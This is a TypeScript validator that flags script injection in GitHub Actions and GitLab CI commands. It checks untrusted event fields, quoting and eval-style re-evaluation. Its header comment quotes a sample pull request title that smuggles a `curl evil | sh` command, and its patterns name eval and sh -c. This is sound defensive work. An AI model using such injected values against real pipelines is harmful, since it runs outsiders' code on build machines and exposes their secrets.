/**
 * Script injection in CI commands. GitHub expands `${{ … }}` into a `run:` script as text before the shell
 * starts, so a pull request title such as `a"; curl evil | sh; "` becomes code (GitHub's "Security hardening
 * for GitHub Actions", "Understanding the risk of script injections"). GitLab passes variables to the shell,
 * which expands them without re-parsing — unless the command evaluates them again (eval, sh -c) or leaves them
 * unquoted (word splitting and globbing). What an outsider controls is refused; trusted expressions are moved to
 * `env:` by the GitHub renderer, as the hardening guide recommends.
 */

export interface Expression {
  /** Offset of `${{` in the command. */
  start: number;
  /** Offset just after `}}`. */
  end: number;
  /** The expression between the braces, trimmed. */
  body: string;
}

/** Every `${{ … }}` in a command, in order. An unclosed one runs to the end (and is refused as such). */
export function githubExpressions(command: string): Expression[] {
  const out: Expression[] = [];
  let from = 0;
  for (;;) {
    const start = command.indexOf("${{", from);
    if (start < 0) return out;
    const close = command.indexOf("}}", start + 3);
    const end = close < 0 ? command.length : close + 2;
    out.push({ start, end, body: command.slice(start + 3, close < 0 ? command.length : close).trim() });
    from = end;
  }
}

// github.event.* carries what the sender wrote (titles, bodies, branch names, commit messages, e-mail addresses);
// only these numbers, hashes and flags are safe to expand.
const SAFE_EVENT_FIELDS =
  /^github\.event\.(number|action|after|before|forced|ref_type|pull_request\.(number|merged|draft|head\.sha|base\.sha)|issue\.number|workflow_run\.id)$/;

/** The first context path in an expression that an outsider controls, or undefined. */
export function untrustedGithubContext(body: string): string | undefined {
  // github['event'] and github[format(…)] cannot be followed statically: never allowed.
  if (/\bgithub\s*\[/.test(body)) return "github[…]";
  for (const [path] of body.matchAll(/\b[A-Za-z_][A-Za-z0-9_-]*(?:\.[A-Za-z0-9_*-]+)*/g)) {
    if (path === "github.head_ref") return path;
    if ((path === "github.event" || path.startsWith("github.event.")) && !SAFE_EVENT_FIELDS.test(path)) return path;
  }
  return undefined;
}

// GitLab predefined variables whose values come from whoever pushed the commit or opened the merge request.
const GITLAB_UNTRUSTED = [
  "CI_COMMIT_MESSAGE",
  "CI_COMMIT_TITLE",
  "CI_COMMIT_DESCRIPTION",
  "CI_COMMIT_TAG_MESSAGE",
  "CI_COMMIT_AUTHOR",
  "CI_COMMIT_BRANCH",
  "CI_COMMIT_REF_NAME",
  "CI_COMMIT_TAG",
  "CI_MERGE_REQUEST_TITLE",
  "CI_MERGE_REQUEST_DESCRIPTION",
  "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
  "CI_MERGE_REQUEST_LABELS",
  "CI_MERGE_REQUEST_MILESTONE",
  "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
  "GITLAB_USER_NAME",
  "GITLAB_USER_EMAIL",
  "GITLAB_USER_LOGIN",
];

interface QuoteState {
  single: boolean;
  double: boolean;
}

/** The shell quoting in effect at `index` of `command` (POSIX rules: backslash, '…', "…"). */
export function quoteStateAt(command: string, index: number): QuoteState {
  let single = false;
  let double = false;
  for (let i = 0; i < index && i < command.length; i++) {
    const ch = command[i];
    if (single) {
      if (ch === "'") single = false;
    } else if (ch === "\\") i++;
    else if (ch === "'" && !double) single = true;
    else if (ch === '"') double = !double;
  }
  return { single, double };
}

/**
 * An untrusted GitLab variable used where the shell would split, glob or evaluate it again; undefined when the
 * command only expands such variables inside double quotes.
 */
export function unsafeGitlabVariable(command: string): string | undefined {
  const evaluates = /(^|[\s;&|(`])(eval|source|\.|sh\s+-c|bash\s+-c|zsh\s+-c|env\s+-S)\b/.test(command);
  for (const match of command.matchAll(/\$\{?([A-Z_][A-Z0-9_]*)\}?/g)) {
    const name = match[1]!;
    if (!GITLAB_UNTRUSTED.includes(name)) continue;
    const state = quoteStateAt(command, match.index);
    if (state.single) continue;
    if (evaluates || !state.double) return `$${name}`;
  }
  return undefined;
}

/** Why a CI command could run an outsider's text, or undefined. */
export function ciCommandProblem(command: string): string | undefined {
  for (const expression of githubExpressions(command)) {
    if (expression.end === command.length && !command.endsWith("}}")) return "an unclosed ${{ expression";
    const untrusted = untrustedGithubContext(expression.body);
    if (untrusted)
      return `\${{ ${untrusted} }} (text an outsider writes, expanded into the script before the shell runs)`;
    if (quoteStateAt(command, expression.start).single)
      return "a ${{ expression inside single quotes (paved moves expressions to env:, where single quotes would not expand them)";
    if (expression.body.includes("${{")) return "a nested ${{ expression";
  }
  const gitlab = unsafeGitlabVariable(command);
  if (gitlab)
    return `${gitlab} outside double quotes or in eval/sh -c (text an outsider writes, split or evaluated by the shell)`;
  return undefined;
}
